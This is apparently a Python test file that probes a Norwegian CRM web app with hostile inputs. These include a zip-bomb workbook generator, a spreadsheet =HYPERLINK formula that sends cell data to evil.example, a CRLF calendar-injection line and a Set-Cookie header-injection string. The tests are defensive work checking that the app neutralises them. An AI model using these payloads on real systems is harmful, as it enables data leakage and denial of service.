"""Hostile probes of the public and personal pages: caching, object access, files."""

import pytest

from crm.events import services
from crm.events.invitations import invitation_token
from crm.events.models import Registration
from crm.extensions import db
from crm.subscriptions import links
from tests.events_factories import make_event, registration_data
from tests.factories import make_contact, make_subscriber


def _registered(app, client, email="kari@example.no"):
    with app.app_context():
        event_id = make_event(capacity=5).id
    client.post(f"/arrangementer/{event_id}", data=registration_data(app, email))
    with app.app_context():
        registration = db.session.scalar(db.select(Registration))
        return event_id, services.registration_token(registration)


def test_pages_reached_by_a_personal_link_are_never_stored_in_a_cache(app, client):
    event_id, token = _registered(app, client)
    with app.app_context():
        contact = make_subscriber("ola@example.no")
        link = links.link_token(contact)
        invitee = make_contact(email="per@example.no")
        invitation = invitation_token(event_id, invitee.id)
    pages = [
        f"/arrangementer/pamelding/{token}",
        f"/arrangementer/{event_id}?invitasjon={invitation}",
        f"/arrangementer/{event_id}/kan-ikke/{invitation}",
        f"/preferences/{link}",
        f"/unsubscribe/{link}",
    ]
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        assert "no-store" in response.headers.get("Cache-Control", ""), page


def test_an_ocr_file_whose_name_holds_control_characters_is_imported(app, client, auth):
    import io

    from crm.fees.models import OcrImport
    from tests.factories import build_ocr, make_invoiced_members

    with app.app_context():
        (invoice,) = make_invoiced_members(1)
        body = build_ocr([[(invoice.kid, invoice.amount_ore)]]).encode()
    auth.login("treasurer")
    response = client.post(
        "/fees/import",
        data={"file": (io.BytesIO(body), "bank\x00fil\x07\u202e.txt")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    with app.app_context():
        (record,) = db.session.scalars(db.select(OcrImport)).all()
        assert record.file_name.isprintable()


CONTROL_TEXT = "Kreditert\x0b ved\x1f feil\x08"


def test_a_credit_note_reason_with_control_characters_still_gives_ehf_and_pdf(app, client, auth):
    from lxml import etree

    from crm.fees.models import CreditNote
    from tests.factories import make_invoiced_members

    with app.app_context():
        (invoice,) = make_invoiced_members(1)
        invoice_id = invoice.id
    auth.login("treasurer")
    client.post(f"/fees/invoices/{invoice_id}/credit", data={"reason": CONTROL_TEXT, "amount": ""})
    with app.app_context():
        note = db.session.scalar(db.select(CreditNote))
        note_id = note.id if note is not None else None
    if note_id is not None:  # refused at the form is as good
        xml = client.get(f"/fees/credit-notes/{note_id}/ehf.xml")
        assert xml.status_code == 200
        etree.fromstring(xml.data)  # well-formed XML 1.0
        assert client.get(f"/fees/credit-notes/{note_id}.pdf").status_code == 200
    assert client.get(f"/fees/invoices/{invoice_id}/ehf.xml").status_code == 200


def test_a_company_name_with_control_characters_still_gives_an_ehf_invoice(app, client, auth):
    from lxml import etree

    from tests.factories import make_invoiced_members

    with app.app_context():
        (invoice,) = make_invoiced_members(1)
        invoice.customer_name = "Bedrift\x0b AS"
        invoice.customer_address = "Gate\x01 1"
        db.session.commit()
        invoice_id = invoice.id
    auth.login("treasurer")
    xml = client.get(f"/fees/invoices/{invoice_id}/ehf.xml")
    assert xml.status_code == 200
    etree.fromstring(xml.data)
    assert client.get(f"/fees/invoices/{invoice_id}.pdf").status_code == 200


def _far_cell_workbook() -> bytes:
    """5 kB: a header row and one cell at XFD1048576, the last one Excel has."""
    import io

    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["orgnr", "name"])
    workbook.active["XFD1048576"] = "x"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _zip_bomb_workbook() -> bytes:
    """A valid workbook whose sheet unpacks to 300 MB (compressed: well under 1 MB)."""
    import io
    import zipfile

    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["orgnr", "name"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source = zipfile.ZipFile(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                padding = b"<!--" + b" " * (300 * 1024 * 1024) + b"-->"
                data = data.replace(b"<sheetData>", b"<sheetData>" + padding, 1)
            bomb.writestr(item.filename, data)
    return out.getvalue()


@pytest.mark.timeout(60)
def test_a_workbook_with_a_far_away_cell_is_read_in_bounded_time(app):
    from crm.members.importing import plan_bytes
    from crm.members.importing.contacts import read_contact_rows

    data = _far_cell_workbook()
    with app.test_request_context():
        plan = plan_bytes(data, "far.xlsx")
        assert plan.source == "xlsx"
        parsed, rows = read_contact_rows(data)
        assert len(rows) <= 1_048_576
        assert all(len(cells) <= 1024 for _line, cells in rows)


@pytest.mark.timeout(60)
def test_a_zip_bomb_workbook_is_refused_with_a_message(app, client, auth):
    import io

    from crm.members.models import Company

    data = _zip_bomb_workbook()
    assert len(data) < 2 * 1024 * 1024
    auth.login("staff")
    for page in ("/companies/import", "/contacts/import"):
        response = client.post(
            page,
            data={"file": (io.BytesIO(data), "bomb.xlsx")},
            content_type="multipart/form-data",
            follow_redirects=True,
        )
        assert response.status_code in (200, 422), page
        assert "for stor" in response.get_data(as_text=True), page
    with app.app_context():
        assert db.session.scalar(db.select(db.func.count(Company.id))) == 0


def test_a_workbook_with_broken_sheet_xml_gives_a_message(app):
    import io
    import zipfile

    from openpyxl import Workbook

    from crm.members.importing import plan_bytes

    workbook = Workbook()
    workbook.active.append(["orgnr", "name"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source, out = zipfile.ZipFile(buffer), io.BytesIO()
    with zipfile.ZipFile(out, "w") as broken:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"<row><c>")
            broken.writestr(item.filename, data)
    with app.test_request_context():
        plan = plan_bytes(out.getvalue(), "broken.xlsx")
    assert [str(issue.message) for issue in plan.file_errors]


WEIRD = "Ævar\x0b\x1f 😀 \u202eredro\u202c <b>&amp;</b> =1+1"


def test_names_with_emoji_controls_and_markup_give_every_file_and_page(app, client, auth):
    from datetime import timedelta

    from crm.events.models import Certificate
    from crm.timeutil import utcnow
    from tests.factories import make_company

    with app.app_context():
        company = make_company(WEIRD, membership_status="member")
        start = (utcnow() - timedelta(weeks=3)).replace(hour=8, minute=0, microsecond=0)
        event = make_event(WEIRD, sessions=1, starts_at=start, completion_percent=50, venue=WEIRD)
        registration = Registration(
            event_id=event.id,
            name=WEIRD,
            email="weird@example.no",
            company_id=company.id,
            status="confirmed",
            note=WEIRD,
        )
        db.session.add(registration)
        db.session.commit()
        event_id, registration_id = event.id, registration.id
        session_id = event.sessions[0].id
        token = services.registration_token(registration)
    auth.login("admin")
    client.post(f"/events/{event_id}/checkin/{registration_id}/{session_id}")
    client.post(f"/events/{event_id}/certificates")
    with app.app_context():
        certificate = db.session.scalar(db.select(Certificate))
        assert certificate is not None
        code, certificate_id = certificate.code, certificate.id
    pages = [
        f"/events/{event_id}",
        f"/events/{event_id}/checkin",
        f"/events/{event_id}/participants.csv",
        f"/events/{event_id}/participants.xlsx",
        f"/events/{event_id}/badges.pdf",
        f"/events/certificates/{certificate_id}.pdf",
        f"/sertifikat/{code}",
        f"/arrangementer/pamelding/{token}",
        f"/arrangementer/{event_id}",
        "/arrangementer.ics",
        f"/reports/{start.year}",
        f"/reports/{start.year}/results.xlsx",
        f"/reports/{start.year}/results.pdf",
    ]
    for page in pages:
        response = client.get(page)
        assert response.status_code in (200, 302), page
        if response.mimetype == "text/html":
            assert "<b>&amp;</b>" not in response.get_data(as_text=True), page


def test_the_calendar_feed_holds_no_control_characters_and_folds_at_75_octets(app, client):
    import re

    with app.app_context():
        make_event(
            "Kurs\x0bi\x1flean; med, komma " + "æøå" * 40,
            description="Linje en\x0blinje to\x07 " + "ø" * 100,
            venue="Sal 1\r\nATTENDEE:mailto:evil@example.com",
        )
    body = client.get("/arrangementer.ics").data
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", body)
    lines = body.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines)
    assert not any(line.startswith(b"ATTENDEE") for line in lines)
    for line in lines:
        line.decode("utf-8")  # no character split by the folding


@pytest.mark.parametrize("fmt", ["tripletex", "generic"])
def test_a_name_typed_on_the_public_form_is_no_formula_in_the_accounting_export(
    app, client, auth, fmt
):
    from crm.fees.models import Invoice
    from crm.spreadsheet import FORMULA_TRIGGERS
    from crm.timeutil import today_oslo
    from tests.factories import make_fee_settings

    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Betal her")'
    with app.app_context():
        make_fee_settings()
        event_id = make_event(capacity=5, price_ore=150_000).id
    client.post(
        f"/arrangementer/{event_id}",
        data=registration_data(app, "kari@example.no", name=hostile),
    )
    with app.app_context():
        invoice = db.session.scalar(db.select(Invoice))
        assert invoice is not None and invoice.customer_name.startswith("=")
    auth.login("treasurer")
    year = today_oslo().year
    response = client.get(f"/fees/accounting/export?start={year}-01-01&end={year}-12-31&fmt={fmt}")
    assert response.status_code == 200
    text = response.data.decode("cp1252" if fmt == "tripletex" else "utf-8-sig")
    import csv
    import io

    def is_number(cell: str) -> bool:
        return cell.lstrip("-").replace(",", "").replace(".", "").isdigit()

    for row in csv.reader(io.StringIO(text), delimiter=";"):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or is_number(cell), row


def test_garbage_certificate_codes_get_the_not_found_page(client):
    for code in ("%00", "a%00b", "%C3%A6%00", "%FF", "x" * 33, "%0D%0ASet-Cookie:x=1"):
        response = client.get(f"/sertifikat/{code}")
        assert response.status_code == 404, code
